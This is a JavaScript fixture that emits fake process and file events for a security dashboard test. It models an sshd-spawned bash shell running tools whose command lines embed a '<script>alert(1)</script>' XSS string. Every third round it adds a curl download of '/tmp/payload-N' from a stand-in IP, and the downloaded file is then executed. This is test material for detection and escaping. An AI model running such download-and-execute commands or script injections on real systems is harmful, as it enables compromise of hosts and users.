// Event lines for the dashboard test: a process tree (sshd → bash) seen first, so alerts carry
// ancestry, then one "round" per tick: alpha-tool and beta-tool executed from that shell, and
// every third round a curl download to /tmp that is then executed (a sequence).
const HOST = { name: "web-01", id: "dash-test-host" };
const t0 = Date.parse("2026-12-01T10:00:00Z");
let clock = 0;
let pid = 4000;

const iso = () => new Date(t0 + clock++ * 250).toISOString();

function proc(name, p, parent, extra = {}) {
  return {
    pid: p.pid,
    entity_id: `ent-${p.pid}`,
    name,
    executable: p.exe,
    command_line: p.cmd,
    args: p.cmd.split(" "),
    user: { id: "1000", name: "alice" },
    parent: parent ? { pid: parent.pid, entity_id: `ent-${parent.pid}`, name: parent.name, executable: parent.exe } : undefined,
    ...extra,
  };
}

const sshd = { pid: 812, name: "sshd", exe: "/usr/sbin/sshd", cmd: "sshd: alice [priv]" };
const bash = { pid: 2231, name: "bash", exe: "/usr/bin/bash", cmd: "-bash" };

function exec(name, p, parent) {
  return {
    "@timestamp": iso(),
    event: { kind: "event", category: ["process"], type: ["start"], action: "exec" },
    host: HOST,
    process: proc(name, p, parent),
  };
}

export function preamble() {
  return [exec("sshd", sshd, { pid: 1, name: "systemd", exe: "/usr/lib/systemd/systemd" }), exec("bash", bash, sshd)];
}

export function round(n) {
  const out = [];
  for (const tool of ["alpha-tool", "beta-tool"]) {
    const p = { pid: ++pid, name: tool, exe: `/usr/local/bin/${tool}`, cmd: `${tool} --round ${n} <script>alert(1)</script>` };
    out.push(exec(tool, p, bash));
  }
  if (n % 3 === 0) {
    const path = `/tmp/payload-${n}`;
    const curl = { pid: ++pid, name: "curl", exe: "/usr/bin/curl", cmd: `curl -so ${path} http://203.0.113.7/p` };
    out.push({
      "@timestamp": iso(),
      event: { kind: "event", category: ["file"], type: ["creation"], action: "creation" },
      host: HOST,
      process: proc("curl", curl, bash),
      file: { path, name: `payload-${n}` },
    });
    out.push(exec(`payload-${n}`, { pid: ++pid, name: `payload-${n}`, exe: path, cmd: path }, bash));
  }
  return out.map((e) => JSON.stringify(e));
}
